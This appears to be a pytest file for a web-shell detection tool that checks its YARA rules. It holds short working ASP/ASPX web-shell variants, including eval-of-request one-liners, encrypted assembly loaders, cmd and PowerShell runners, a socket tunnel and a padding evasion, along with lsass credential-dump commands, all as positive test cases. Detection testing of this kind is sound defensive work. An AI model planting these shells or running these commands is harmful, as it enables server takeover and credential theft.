"""exhunt's own YARA pack: every shared web shell flagged, no shared benign page flagged, and
behaviours (not samples) recognised in variants written here."""

from __future__ import annotations

from pathlib import Path

import pytest
import yara_x

from exhunt.detections.yara import load_rules
from tests.conftest import SHARED, shared_path

SKIP_NAMES = {"LICENSE", "COPYING"}


@pytest.fixture(scope="module")
def own_rules(tmp_path_factory: pytest.TempPathFactory) -> yara_x.Rules:
    return load_rules(cache=tmp_path_factory.mktemp("cache")).rules()


def _files(*parts: str) -> list[str]:
    folder = SHARED.joinpath(*parts)
    if not folder.exists():
        return ["<absent>"]
    return sorted(
        str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file() and p.name not in SKIP_NAMES
    )


def _rules_matching(rules: yara_x.Rules, data: bytes) -> list[str]:
    scanner = yara_x.Scanner(rules)
    for name in ("filename", "filepath", "extension", "filetype", "owner"):
        scanner.set_global(name, "")
    return [r.identifier for r in scanner.scan(data).matching_rules]


@pytest.mark.parametrize("name", _files("webshells"))
def test_every_shared_webshell_is_flagged(own_rules: yara_x.Rules, name: str) -> None:
    path = shared_path("webshells") / name
    assert _rules_matching(own_rules, path.read_bytes()), f"{name} not flagged by the exhunt pack"


@pytest.mark.parametrize("name", _files("benign", "aspx"))
def test_no_shared_benign_page_is_flagged(own_rules: yara_x.Rules, name: str) -> None:
    path = shared_path("benign", "aspx") / name
    assert _rules_matching(own_rules, path.read_bytes()) == []


# Variants written for this test (not copies of any sample): each names the rule that must fire.
POSITIVE = {
    "vbs_execute_request": ('<% Execute(Request.Form("z")) %>', "exhunt_webshell_eval_request"),
    "vbs_executeglobal_var": (
        '<%\nDim p : p = Request.QueryString("q")\nExecuteGlobal p\n%>',
        "exhunt_webshell_eval_request",
    ),
    "jscript_mixed_case": (
        '<%@ page language="jscript" %><% EVAL(request.form["k"], "UNSAFE") %>',
        "exhunt_webshell_eval_request",
    ),
    "jscript_base64_decoded": (
        '<%@ Page Language="Jscript"%><%eval(System.Text.Encoding.UTF8.GetString('
        'System.Convert.FromBase64String(Request.Item["d"])),"unsafe");%>',
        "exhunt_webshell_eval_request",
    ),
    "jscript_concat_eval": (
        '<%@ Page Language="Jscript"%><% var f = this["ev" + "al"]; f(Request.Item["c"]); %>',
        "exhunt_webshell_eval_request",
    ),
    "jscript_hex_eval": (
        '<%@ Page Language="Jscript"%><% var n = "\\x65\\x76\\x61\\x6c"; %>',
        "exhunt_webshell_eval_request",
    ),
    "behinder_style_loader": (
        '<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%'
        'Session.Add("k","e45e329feb5d925b"); byte[] k = Encoding.Default.GetBytes('
        'Session[0] + ""),c = Request.BinaryRead(Request.ContentLength);'
        "Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k)"
        '.TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>',
        "exhunt_webshell_assembly_loader",
    ),
    "xor_loader": (
        '<%@ Page Language="C#" %><% byte[] d = Request.BinaryRead(Request.ContentLength); '
        "for (int i = 0; i < d.Length; i++) { d[i] = (byte)(d[i] ^ key[i + 1 & 15]); } "
        'System.Reflection.Assembly.Load(d).CreateInstance("P").Equals(Context); %>',
        "exhunt_webshell_assembly_loader",
    ),
    "powershell_runner": (
        '<%@ Page Language="C#" %><script runat="server">void R(){ var psi = new '
        'System.Diagnostics.ProcessStartInfo("powershell.exe", "-enc " + Request.Form["e"]);'
        " System.Diagnostics.Process.Start(psi); }</script>",
        "exhunt_webshell_process_from_page",
    ),
    "classic_asp_wscript": (
        '<% Set s = Server.CreateObject("WScript.Shell") : s.Run "cmd /c " & Request("c"), 0 %>',
        "exhunt_webshell_process_from_page",
    ),
    "regeorg_style_tunnel": (
        '<%@ Page Language="C#" %><% String cmd = Request.Headers.Get("X-CMD"); '
        'if (cmd == "CONNECT") { Socket s = new Socket(AddressFamily.InterNetwork, '
        'SocketType.Stream, ProtocolType.Tcp); s.Connect(ep); Session.Add("socket", s); } %>',
        "exhunt_webshell_socket_tunnel",
    ),
    "oab_export": (
        'Name : OAB (Default Web Site)\r\nExternalUrl : http://f/<script language="JScript" '
        'runat="server">function Page_Load(){eval(Request["x"],"unsafe");}</script>\r\n',
        "exhunt_exchange_oab_export_script",
    ),
    "comsvcs_minidump": (
        "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 612 C:\\ProgramData\\l.dmp full",
        "exhunt_tool_lsass_dump",
    ),
    "procdump": ("procdump64.exe -accepteula -ma lsass.exe C:\\temp\\ls.dmp", "exhunt_tool_lsass_dump"),
    "codedom_compile": (
        '<%@ Page Language="C#" %><% var r = new Microsoft.CSharp.CSharpCodeProvider()'
        '.CompileAssemblyFromSource('
        'new System.CodeDom.Compiler.CompilerParameters(), Request.Form["src"]); '
        'r.CompiledAssembly.CreateInstance("X"); %>',
        "exhunt_webshell_dynamic_compile",
    ),
    "jscript_evaluate": (
        '<%@ Page Language="C#" %><% Microsoft.JScript.Eval.JScriptEvaluate(Request["c"], '
        "Microsoft.JScript.Vsa.VsaEngine.CreateEngine()); %>",
        "exhunt_webshell_dynamic_compile",
    ),
    "sharpyshell_style_xor": (
        '<%@ Page Language="C#" %><% byte[] input = Convert.FromBase64String(Request.Form["data"]); '
        "for (int i = 0; i < input.Length; i++) { output[i] = (byte)(input[i] ^ key[i % key.Length]); } "
        "Assembly.Load(output); %>",
        "exhunt_webshell_assembly_loader",
    ),
    "reflection_process_start": (
        '<%@ Page Language="C#" %><% Type.GetType("System.Diagnostics.Process").GetMethod("Start", '
        'new[] { typeof(string), typeof(string) }).Invoke(null, new object[] { "cmd.exe", Request.Form["c"] }); %>',
        "exhunt_webshell_reflection_by_name",
    ),
    "eval_by_name": (
        '<%@ Page Language="JScript" %><% this["eval"](Request.Item["z"], "unsafe"); %>',
        "exhunt_webshell_eval_request",
    ),
    "png_polyglot": ('\x89PNG\r\n\x1a\n....<%execute request("a")%>', "exhunt_webshell_image_polyglot"),
    # a review's evasions, each of which the pack had missed
    "jscript_unsafe_in_a_variable": (
        '<%@ Page Language="Jscript"%><% var a=Request.Item["z"],u="unsafe";eval(a,u); %>',
        "exhunt_webshell_eval_request",
    ),
    "jscript_unsafe_after_a_semicolon_string": (
        '<%@ Page Language="Jscript"%><% var a=Request.Item["z"]; eval(a+";","unsafe"); %>',
        "exhunt_webshell_eval_request",
    ),
    "vbs_execute_var_in_brackets": ('<% x=request("pass"):execute(x) %>', "exhunt_webshell_eval_request"),
    "process_start_of_request_values": (
        '<%@ Page Language="C#"%><% System.Diagnostics.Process.Start(Request["f"], Request["a"]); %>',
        "exhunt_webshell_process_from_page",
    ),
    "vb_shell_of_request": (
        '<%@ Page Language="VB"%><% Shell("cmd.exe /c " & Request("c")) %>', "exhunt_webshell_process_from_page"),
    "assembly_from_the_request_body": (
        '<%@ Page Language="C#"%><% System.Reflection.Assembly.Load(Request.BinaryRead(Request.ContentLength))'
        '.CreateInstance("U").Equals(this); %>',
        "exhunt_webshell_assembly_loader",
    ),
    "assembly_from_the_input_stream": (
        '<%@ Page Language="C#"%><% var m = new System.IO.MemoryStream(); Request.InputStream.CopyTo(m); '
        'System.Reflection.Assembly.Load(m.ToArray()).CreateInstance("U").Equals(this); %>',
        "exhunt_webshell_assembly_loader",
    ),
    "web_service_method_runs_cmd": (
        '<%@ WebService Language="C#" Class="S" %>\nusing System.Web.Services; public class S : WebService {'
        ' [WebMethod] public string Run(string c) { var p = System.Diagnostics.Process.Start("cmd.exe", "/c " + c);'
        ' return ""; } }',
        "exhunt_webshell_process_from_page",
    ),
    "embedded_dll_loaded": (
        '<%@ Page Language="C#"%><% System.Reflection.Assembly.Load(Convert.FromBase64String('
        '"TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAA")).CreateInstance("X").Equals(Context); %>',
        "exhunt_webshell_assembly_loader",
    ),
    "razor_page_process": (
        '@using System.Diagnostics\n@{ Process.Start(Request["f"], Request["a"]); }',
        "exhunt_webshell_process_from_page",
    ),
    # a hidden eval written after 200 KB of padding: the size bound alone had let it pass
    "jscript_concat_eval_after_padding": (
        '<%@ Page Language="C#"%><!--' + "x" * (205 << 10) + '--><script language="JScript" runat="server">'
        'function Page_Load(){this["ev"+"al"](Request.Item["z"],"unsafe");}</script>',
        "exhunt_webshell_eval_request",
    ),
}

NEGATIVE = {
    "databinder_eval": '<%@ Page Language="C#" %><%# DataBinder.Eval(Container.DataItem, "Name") %>',
    "provider_load": '<%@ Page Language="C#" %><% var a = Assembly.LoadWithPartialName(Request["p"]); %>',
    "plain_page": '<%@ Page %><script runat="server">void Page_Load(){ L.Text = ""; }</script>',
    "process_list_only": '<%@ Page Language="C#" %><% foreach (var p in Process.GetProcesses()) { } %>',
    "static_html": "<html><body>eval request execute cmd.exe</body></html>",
    "js_eval_no_server": "<script>eval(location.hash.substr(1))</script>",
    "process_type_name_only": '<%@ Page Language="C#" %><% var n = "System.Diagnostics.Process"; '
    "Response.Write(n + Request.Form[\"x\"]); %>",
    "jscript_two_argument_call_without_unsafe": '<%@ Page Language="Jscript"%><% var s = f(a, b); '
    'Response.Write(Request.Item["n"]); %>',
    "process_start_of_a_fixed_program": '<%@ Page Language="C#"%><% Process.Start("notepad.exe"); '
    'var q = Request["q"]; %>',
    "assembly_load_of_a_resource": '<%@ Page Language="C#"%><% var s = GetType().Assembly.GetManifestResourceStream'
    '("x"); var a = Assembly.Load(bytes.ToArray()); %>',
    # every PowerShell hashtable is "@{": Exchange's own Scripts folder had been called compromised
    "powershell_script_with_hashtables": '$p = @{ Name = "x" }; Add-Type -AssemblyName System.Management.Automation;'
    ' $b = [System.Text.Encoding]::UTF8.GetBytes($p.Name); [System.Diagnostics.Process]::Start("cmd.exe")',
    "web_service_listing_processes": '<%@ WebService Language="C#" Class="S" %> [WebMethod] public int N() '
    '{ return System.Diagnostics.Process.GetProcesses().Length; }',
    "concat_eval_in_a_large_page_without_request": '<%@ Page Language="C#" %><!--' + "x" * (205 << 10)
    + '--><script>var f = window["ev" + "al"];</script>',
    "reflection_without_request": '<%@ Page Language="C#" %><% Type.GetType("System.Diagnostics.Process")'
    '.GetMethod("GetProcesses", Type.EmptyTypes); %>',
}


@pytest.mark.parametrize("case", sorted(POSITIVE))
def test_pack_generalises_to_variants(own_rules: yara_x.Rules, case: str) -> None:
    text, rule = POSITIVE[case]
    assert rule in _rules_matching(own_rules, text.encode("latin-1"))


@pytest.mark.parametrize("case", sorted(NEGATIVE))
def test_pack_quiet_on_benign_constructs(own_rules: yara_x.Rules, case: str) -> None:
    assert _rules_matching(own_rules, NEGATIVE[case].encode()) == []


def test_pack_has_source_notes() -> None:
    folder = Path(__file__).resolve().parents[2] / "exhunt" / "data" / "yara"
    assert (folder / "SOURCE.md").read_text(encoding="utf-8").strip()
